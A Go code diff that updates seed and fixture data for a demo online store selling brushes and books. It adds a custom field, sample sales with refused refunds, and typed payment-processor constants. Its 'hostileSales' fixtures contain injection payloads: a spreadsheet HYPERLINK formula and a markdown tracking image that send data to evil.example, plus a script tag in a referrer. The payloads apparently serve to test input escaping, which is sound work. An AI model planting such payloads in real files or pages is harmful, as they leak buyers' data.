@@ -95,6 +95,7 @@ const (
 	dedication = "Name for the dedication"
 	terms      = "https://pixelandpage.example/licence/commercial.v2"
 	wallSize   = "Wall width/height (e.g. 60.5 cm)"
+	paintsWith = "What do you paint with?"
 )
 
 func (d *demo) firstProducts() []productRow {
@@ -234,6 +235,7 @@ func firstFields() []fieldRow {
 		{customField{kind: "terms", name: terms, required: true, perProduct: true}, []string{quietGrid, gridsmith}},
 		{customField{kind: "text", name: wallSize}, []string{tidalForms}},
 		{customField{kind: "checkbox", name: "Gift wrap"}, []string{tidalForms}},
+		{customField{kind: "text", name: paintsWith}, []string{brushes, cheatSheet}},
 		{customField{kind: "file", name: "Your first spread", postPurchase: true, perProduct: true}, []string{quietGrid}},
 	}
 }
@@ -295,7 +297,7 @@ func (d *demo) showcaseSales() []saleRow {
 		{name: "licence of a refunded sale", what: "still verifies; purchase.refunded is true",
 			product: gridsmith, days: 75, refunded: everything},
 		{product: gridsmith, days: 33, set: func(s *sale) {
-			s.quantity, s.customFields = 3, []fieldAnswer{{terms, "true"}}
+			s.quantity, s.customFields = 3, []fieldAnswer{{terms, true}}
 		}},
 
 		{name: "physical sale not shipped", what: "waiting to be sent", product: tidalForms, days: 2, options: []int{1, 0},
@@ -315,15 +317,19 @@ func (d *demo) showcaseSales() []saleRow {
 		{name: "dispute won", what: "disputed, and the money came back", product: quietGrid, days: 130, options: []int{1},
 			set: func(s *sale) { s.disputed, s.disputeWon = true, true }},
 		{name: "free sale", what: "nothing to refund", product: cheatSheet, days: 6,
-			set: func(s *sale) { s.customFields = []fieldAnswer{{heardOf, "a friend"}} }},
+			set: func(s *sale) { s.customFields = []fieldAnswer{{paintsWith, "Gouache"}} }},
 		{name: "sale whose PayPal balance is short", what: "PayPal refuses its refund", product: brushes, days: 28,
 			set: func(s *sale) {
-				s.processor, s.card = "paypal", card{s.email, "paypal"}
+				s.processor, s.card = processorPayPal, card{s.email, "paypal"}
 				s.refusal = "Your PayPal account does not have sufficient funds to make this refund."
+			}},
+		{name: "sale beyond the store's balance", what: "its refund is refused until more is earned",
+			product: quietGrid, days: 29, options: []int{0}, set: func(s *sale) {
+				s.refusal = "Your balance is insufficient to process this refund."
 			}},
 		{name: "sale on a disconnected Stripe account", what: "its refund is refused",
 			product: quietGrid, days: 310, options: []int{0}, set: func(s *sale) {
-				s.processor = "stripe"
+				s.processor = processorStripe
 				s.refusal = "We cannot refund this sale because you have disconnected the associated payment account " +
 					"on Stripe. Please connect it and try again."
 			}},
@@ -336,13 +342,13 @@ func (d *demo) showcaseSales() []saleRow {
 		{name: "sale with an offer code", what: "bought with BRUSH5", product: brushes, days: 17,
 			set: func(s *sale) { s.code = d.codes["BRUSH5"] }},
 		{product: gridsmith, days: 26, set: func(s *sale) {
-			s.code, s.upsell = d.codes["upsell"], "Layout Lint owners"
+			s.code, s.upsell = d.codes["upsell"], &upsell{"Layout Lint owners", d.product(layoutLint)}
 		}},
 		{name: "affiliate sale", what: "an affiliate earned $4.80", product: quietGrid, days: 19, options: []int{0},
 			set: func(s *sale) { s.affiliate = &affiliate{"partner@affiliates.example", 480} }},
 		{name: "sale with custom fields", what: "one of them named by a URL", product: quietGrid, days: 8, options: []int{1},
 			set: func(s *sale) {
-				s.customFields = []fieldAnswer{{dedication, "For Grandma Ruth"}, {terms, "true"}}
+				s.customFields = []fieldAnswer{{heardOf, "a friend"}, {dedication, "For Grandma Ruth"}, {terms, true}}
 			}},
 		{product: brushes, days: 5, set: func(s *sale) {
 			s.urlParams = []fieldAnswer{{"source", "newsletter"}, {"issue", "42"}}
@@ -351,7 +357,7 @@ func (d *demo) showcaseSales() []saleRow {
 		{product: brushes, days: 22, set: func(s *sale) {
 			s.rating, s.reviewText = 5, "The dry reed alone is worth it."
 		}},
-		{product: brushes, days: 31, set: func(s *sale) {
+		{name: "sale through Discover", what: "Gumroad brought the buyer", product: brushes, days: 31, set: func(s *sale) {
 			s.discover, s.referrer = true, "https://gumroad.com/discover"
 		}},
 	}
@@ -403,7 +409,7 @@ var hostileSales = []struct {
 		s.fullName = `=HYPERLINK("https://evil.example/?"&A1,"Click to see invoice")`
 	}},
 	{"markdown image", "phones home when rendered", func(s *sale) {
-		s.customFields = []fieldAnswer{{heardOf, "![logo](https://evil.example/pixel.png?d=SECRET)"}}
+		s.customFields = []fieldAnswer{{paintsWith, "![logo](https://evil.example/pixel.png?d=SECRET)"}}
 		s.referrer = "https://evil.example/<script>alert(1)</script>"
 	}},
 	{"very long name", "ten thousand characters", func(s *sale) { s.fullName = strings.Repeat("long ", 2000) }},
@@ -482,7 +488,7 @@ func (d *demo) firstStore() {
 	d.openStore(seller{
 		name: "Pixel & Page", username: "pixelandpage", twitter: "pixelandpage",
 		bio:        "Brushes, books and tools for people who make pages.",
-		pppFactors: []pppFactor{{"BR", 0.5}, {"IN", 0.4}, {"MX", 0.55}, {"PL", 0.65}},
+		pppFactors: parityFactors(pppFactor{"BR", 0.5}, pppFactor{"IN", 0.4}, pppFactor{"MX", 0.55}, pppFactor{"PL", 0.65}),
 	}, "America/Los_Angeles")
 	d.addProducts(d.firstProducts())
 	d.addFields(firstFields())
